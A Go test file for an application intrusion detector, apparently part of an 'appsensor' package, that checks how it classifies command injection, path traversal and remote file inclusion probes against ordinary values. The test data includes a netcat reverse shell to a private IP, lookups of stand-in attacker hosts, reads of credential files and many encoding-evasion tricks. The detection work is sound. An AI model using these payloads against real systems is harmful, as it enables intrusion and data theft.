package appsensor

import "testing"

// TestIE3Handcrafted is IE3's own held-out set: probes written from shell
// and path syntax (not taken from any dataset) and the ordinary values
// they must not be confused with. Values are as the application sees
// them: URL-decoded once.
func TestIE3Handcrafted(t *testing.T) {
	tests := []struct {
		value string
		kind  string // "" for none
	}{
		// Command separators followed by a program.
		{"1; ls -la /tmp", "command injection"},
		{"x|whoami", "command injection"},
		{"a && uname -a", "command injection"},
		{"a || ifconfig", "command injection"},
		{"q & netstat -an &", "command injection"},
		{"8.8.8.8; nslookup attacker.example", "command injection"},
		{"1\nid", "command injection"},                    // a line break, %0a once decoded
		{"1%0Aid", "command injection"},                   // still encoded: decoded again
		{"127.0.0.1%250a%2577hoami", "command injection"}, // three layers
		{"x;nc -e sh 10.0.0.5 4444", "command injection"},
		{"a| net user", "command injection"},
		{"a;w'h'oami", "command injection"},           // quote pairs vanish in the shell
		{"a;who\\ami", "command injection"},           // so do backslash escapes
		{"a;cat${IFS}-n${IFS}x", "command injection"}, // ${IFS} as white space
		{"; sleep 9 ;", "command injection"},
		{"& timeout 9 &", "command injection"},
		{"a & usleep 900 &", "command injection"},
		// Substitutions run whatever they hold.
		{"`uname`", "command injection"},
		{"$(sleep 5)", "command injection"},
		{"name=$(echo x)", "command injection"},
		{"a`true`b", "command injection"},
		// Programs by path, alone or with a trailing pipe.
		{"/usr/bin/whoami", "command injection"},
		{"/sbin/ifconfig|", "command injection"},
		{"usr/local/bin/python3 -c x", "command injection"},
		{`c:\windows\system32\cmd.exe /c ver`, "path traversal"}, // C:\Windows comes first
		// A program at the start with shell-looking arguments.
		{"ping -c 4 192.0.2.1", "command injection"},
		{"ping.exe -n 9 192.0.2.1", "command injection"},
		{"PING 192.0.2.1", "command injection"}, // cmd.exe ignores case
		{"dir c:", "command injection"},
		{"DIR D:\\ /s", "command injection"},
		{"cmd /c whoami", "command injection"},
		{"powershell -nop -w hidden", "command injection"},
		{"whoami /all", "command injection"},
		{"uname -a", "command injection"},
		{"ls;", "command injection"},
		{"cat > /tmp/out", "command injection"}, // a redirection
		{"{ls,-la}", "command injection"},       // brace expansion
		{";system('ls')", "command injection"},
		{"'whoami'", "command injection"}, // a lone quoted program
		{`<!--#exec cmd="ls" -->`, "command injection"},

		// Traversal, in any encoding.
		{"../../../var/lib/app.db", "path traversal"},
		{`..\..\boot.ini`, "path traversal"},
		{"%2e%2e%2f%2e%2e%2fsecret", "path traversal"},  // encoded twice on the wire
		{"%252e%252e%252fsecret", "path traversal"},     // three times
		{"%c0%ae%c0%ae/secret", "path traversal"},       // overlong UTF-8 dots
		{"..%c0%afsecret", "path traversal"},            // overlong slash
		{"%e0%80%ae%e0%80%ae/secret", "path traversal"}, // three-byte overlong dots
		{"..%c1%9c..%c1%9csecret", "path traversal"},    // IIS's backslash
		{"%u002e%u002e%u2215secret", "path traversal"},  // %u and a division slash
		{"．．／secret", "path traversal"},                 // fullwidth forms
		{"....//....//secret", "path traversal"},        // dots a filter strips once
		{"/..;/..;/admin", "path traversal"},            // Tomcat path parameters
		{"/srv/app/./config.yml", "path traversal"},     // dot segment in an absolute path
		{"////srv/app/config.yml", "path traversal"},    // empty segments
		{"/srv/app/config.yml..", "path traversal"},     // dots glued to a name
		{"/etc/nginx/nginx.conf", "path traversal"},     // sensitive trees
		{"/proc/1/cmdline", "path traversal"},           //
		{"/var/log/auth.log", "path traversal"},         //
		{"~/.ssh/authorized_keys", "path traversal"},    //
		{"D:/inetpub/wwwroot/web.config", "path traversal"},
		{"C:\\WINDOWS\\win.ini", "path traversal"},
		{"WEB-INF/classes/app.properties", "path traversal"},
		{"file:///c:/secret.txt", "path traversal"},
		{"invoice.pdf\x00.png", "path traversal"}, // NUL truncation outside the URL
		{"php://filter/convert.base64-encode/resource=index", "remote file inclusion"},
		{"http://evil.example/shell.txt?", "remote file inclusion"},

		// Ordinary values.
		{"rock & roll; live", ""},
		{"Tom & Jerry", ""},
		{"AT&T; R&D; Q&A", ""},
		{"salt & pepper; cat food", ""},
		{"I love cats; dogs too", ""},
		{"Sure; I'd like that", ""},
		{"Hello,\r\nid like to return it", ""},
		{"Name & ID", ""},
		{"dog|cat", ""},
		{"red | blue | green", ""},
		{"Home | Help | More", ""},
		{"shoes && socks", ""},
		{"ping pong table", ""},
		{"cat toys", ""},
		{"echo dot speaker", ""},
		{"Type C cable", ""},
		{"set-up guide", ""},
		{"set -up", ""}, // cmd.exe's set takes no dash flags
		{"Dir. Steven Spielberg", ""},
		{"who am i", ""},
		{"sleep 8 hours; drink water", ""},
		{"report.pdf", ""},
		{"photo_2024-01-01.jpg", ""},
		{"my-file.v2.tar.gz", ""},
		{`C:\Users\alice\Documents\cv.docx`, ""},
		{"2024/01/31", ""},
		{"31.12.2024 12:30", ""},
		{"alice+tag@example.com", ""},
		{"o'brien@example.ie", ""},
		{"https://shop.example/cart?a=1&b=2", ""},
		{"/products/1234?ref=home&id=5", ""},
		{"//cdn.example.com/app.js", ""},
		{"/windows/blinds", ""},
		{"/shop/etc/misc", ""},
		{"1/2 price", ""},
		{"50% off", ""},
		{"wait... what?", ""},
		{"wait.... ok", ""},
		{"v1.2.3", ""},
		{"x = a > b ? 1 : 0", ""},
		{"if (a < b) { run(); }", ""},
		{"font-family: arial; color: red", ""},
		{"text/html; charset=utf-8", ""},
		{"data:image/png;base64,iVBORw0KGgo=", ""},
		{"max-age=3600; path=/", ""},
		{"a;b;c", ""},
		{"yes;no", ""},
		{"id;name;email", ""}, // a list of field names
		{"id|title", ""},
		{"id;", "command injection"},
		{"id;ls", "command injection"},
		{"id", ""}, // a field name as often as a program
		{"'hello'", ""},
		{"<b>find</b> more", ""},
		{"echo('hi');", ""}, // a function call, not a command
		{"Bldg 4; rm 101", ""},
		{"set 1; set 2; set 3", ""},
		{"$(document).ready(init)", ""},
		{"$(5)", ""},
		{"${name}", ""},
		{"curl up with a book", ""},
		{"grep for errors", ""},
		{"ssh keys; rotate", ""},
		{"dir en grey", ""},
		{"type 2 diabetes", ""},
		{"Loading...", ""},
		{"1.0...2.0", ""},
		{`C:\Program Files\App\app.exe`, ""},
		{"python tutorial | beginners", ""},
		{"Perl books | Best sellers", ""},
	}
	for _, tt := range tests {
		kind, ok := ie3Probe(tt.value, false)
		if kind != tt.kind || ok != (tt.kind != "") {
			t.Errorf("ie3Probe(%q) = %q, want %q", tt.value, kind, tt.kind)
		}
	}
}

// TestIE3NulIsCIE3sInTheURL: a NUL in the path or query is CIE3's
// finding; in a form or JSON field IE3 reads it as truncation.
func TestIE3NulIsCIE3sInTheURL(t *testing.T) {
	for _, url := range []bool{true, false} {
		_, ok := ie3Probe("report.pdf\x00.jpg", url)
		if ok == url {
			t.Errorf("url=%v: flagged %v", url, ok)
		}
	}
}

// TestCanonical: what the decoder undoes, and that plain values come
// back untouched.
func TestCanonical(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain value", "plain value"},
		{"%2e%2e%2f", "../"},
		{"%252e%252e%255c", `..\`},
		{"%25252e", "."},
		{"%2525252e", "%2e"}, // three layers at most
		{"%u002e%U2215", "./"},
		{"%c0%ae%c0%af%c1%9c%c1%1c", `./\\`},
		{"%e0%80%ae%f0%80%80%ae", ".."},
		{"caf%C3%A9", "café"},
		{"100%", "100%"},
		{"a+b", "a+b"},
	}
	for _, tt := range tests {
		if got := canonical(tt.in); got != tt.want {
			t.Errorf("canonical(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// BenchmarkIE3 is IE3's cost per value on a mix of ordinary values (most
// of them plain) and probes.
func BenchmarkIE3(b *testing.B) {
	values := []string{
		"1234", "running shoes", "alice@example.net", "O'Reilly", "/products/1234", "50% off",
		"Hello,\r\nmy parcel arrived damaged.\r\nCan you send a replacement?", "black-friday",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "../../etc/passwd", "; cat /etc/hosts", "|id|",
	}
	n := 0
	for b.Loop() {
		for _, v := range values {
			if _, ok := ie3Probe(v, false); ok {
				n++
			}
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(values)), "ns/value")
	if n == 0 {
		b.Fatal("no probe found")
	}
}
